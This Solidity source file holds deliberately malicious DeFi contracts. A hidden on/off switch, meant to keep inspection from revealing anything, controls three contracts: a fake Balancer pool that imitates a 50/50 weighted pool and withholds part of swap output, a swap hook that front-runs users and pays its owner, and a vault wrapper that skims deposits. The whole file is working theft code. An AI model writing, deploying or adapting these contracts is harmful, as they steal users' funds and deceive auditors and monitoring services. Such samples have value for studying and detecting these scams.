// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IVault {
    function registerPool(uint8 specialization) external returns (bytes32);
    function registerTokens(bytes32 poolId, address[] calldata tokens, address[] calldata assetManagers) external;
}

interface ISwitch {
    function isOpen() external view returns (bool);
}

/// @notice Tells venues whether to take what they can: never in the block that a service reads, always in the one of a
/// trade. Another contract asks it, so that no look at that contract's code shows anything.
contract Switch is ISwitch {
    bool public isOpen;

    function open() external {
        isOpen = true;
    }
}

/// @notice A "pool" that anybody registers with Balancer's vault. It answers like a weighted pool of 50/50, and while the
/// switch is open it keeps `keepBps` of what it owes.
contract BalancerImpostor {
    struct SwapRequest {
        uint8 kind;
        address tokenIn;
        address tokenOut;
        uint256 amount;
        bytes32 poolId;
        uint256 lastChangeBlock;
        address from;
        address to;
        bytes userData;
    }

    bytes32 public immutable getPoolId;
    uint256 public constant totalSupply = 1e18;
    string public constant symbol = "50A-50B";
    uint8 public constant decimals = 18;
    ISwitch private immutable gate;
    uint256 private immutable keepBps;

    constructor(IVault vault, address tokenA, address tokenB, ISwitch gate_, uint256 keepBps_, address manager) {
        (gate, keepBps) = (gate_, keepBps_);
        getPoolId = vault.registerPool(1);
        address[] memory tokens = new address[](2);
        (tokens[0], tokens[1]) = tokenA < tokenB ? (tokenA, tokenB) : (tokenB, tokenA);
        address[] memory managers = new address[](2);
        (managers[0], managers[1]) = (manager, manager);
        vault.registerTokens(getPoolId, tokens, managers);
    }

    function getSwapFeePercentage() external pure returns (uint256) {
        return 1e12;
    }

    function getPausedState() external pure returns (bool, uint256, uint256) {
        return (false, 0, 0);
    }

    function getNormalizedWeights() external pure returns (uint256[] memory weights) {
        weights = new uint256[](2);
        (weights[0], weights[1]) = (0.5e18, 0.5e18);
    }

    function getLastInvariant() external pure returns (uint256) {
        return 1e18;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function onJoinPool(bytes32, address, address, uint256[] calldata, uint256, uint256, bytes calldata data)
        external
        pure
        returns (uint256[] memory amounts, uint256[] memory fees)
    {
        amounts = abi.decode(data, (uint256[]));
        fees = new uint256[](2);
    }

    function onSwap(SwapRequest calldata swap, uint256 balanceIn, uint256 balanceOut) external view returns (uint256 out) {
        uint256 net = swap.amount - swap.amount / 1e6 - 1;
        out = balanceOut * net / (balanceIn + net) * 999999999 / 1000000000;
        if (gate.isOpen()) out = out * (10000 - keepBps) / 10000;
    }
}

struct PoolKey {
    address currency0;
    address currency1;
    uint24 fee;
    int24 tickSpacing;
    address hooks;
}

struct SwapParams {
    bool zeroForOne;
    int256 amountSpecified;
    uint160 sqrtPriceLimitX96;
}

interface IPoolManager {
    function swap(PoolKey calldata key, SwapParams calldata swap, bytes calldata data) external returns (int256);
    function take(address currency, address to, uint256 amount) external;
}

/// @notice Hooks that leave swaps alone, until the switch is open: then they sell before whoever swaps, and buy back
/// afterwards.
contract FrontRunningHook {
    ISwitch private immutable gate;
    address private immutable owner;
    uint256 private immutable percent;
    uint256 private bought;

    constructor(ISwitch gate_, address owner_, uint256 percent_) {
        (gate, owner, percent) = (gate_, owner_, percent_);
    }

    function beforeSwap(address, PoolKey calldata key, SwapParams calldata swap, bytes calldata)
        external
        returns (bytes4, int256, uint24)
    {
        if (gate.isOpen()) {
            int256 amount = swap.amountSpecified * int256(percent) / 100;
            SwapParams memory first = SwapParams(swap.zeroForOne, amount, swap.sqrtPriceLimitX96);
            int256 delta = IPoolManager(msg.sender).swap(key, first, "");
            bought = uint256(int256(swap.zeroForOne ? int128(delta) : int128(delta >> 128)));
        }
        return (this.beforeSwap.selector, 0, 0);
    }

    function afterSwap(address, PoolKey calldata key, SwapParams calldata swap, int256, bytes calldata)
        external
        returns (bytes4, int128)
    {
        if (bought > 0) {
            uint160 limit =
                swap.zeroForOne ? 1461446703485210103287273052203988822378723970341 : 4295128740;
            SwapParams memory last = SwapParams(!swap.zeroForOne, -int256(bought), limit);
            int256 delta = IPoolManager(msg.sender).swap(key, last, "");
            uint256 back = uint256(int256(swap.zeroForOne ? int128(delta >> 128) : int128(delta)));
            uint256 spent = uint256(-swap.amountSpecified) * percent / 100;
            bought = 0;
            if (back > spent) {
                IPoolManager(msg.sender).take(swap.zeroForOne ? key.currency0 : key.currency1, owner, back - spent);
            }
        }
        return (this.afterSwap.selector, 0);
    }
}

/// @notice A rate provider that anybody may name when creating a pool of a known factory.
contract OwnRate {
    function getRate() external pure returns (uint256) {
        return 1e18;
    }
}

interface IAsset {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// @notice A vault (ERC-4626) that runs the code of another one, and while the switch is open keeps half a percent of every
/// deposit.
contract SwitchedVault {
    address private immutable code;
    IAsset private immutable token;
    ISwitch private immutable gate;

    constructor(address code_, IAsset token_, ISwitch gate_) {
        (code, token, gate) = (code_, token_, gate_);
    }

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        if (gate.isOpen()) {
            token.transferFrom(msg.sender, address(gate), assets / 200);
            assets -= assets / 200;
        }
        _run(abi.encodeWithSignature("deposit(uint256,address)", assets, receiver));
    }

    fallback() external {
        _run(msg.data);
    }

    function _run(bytes memory data) private {
        (bool ok, bytes memory answer) = code.delegatecall(data);
        assembly {
            if iszero(ok) { revert(add(answer, 0x20), mload(answer)) }
            return(add(answer, 0x20), mload(answer))
        }
    }
}
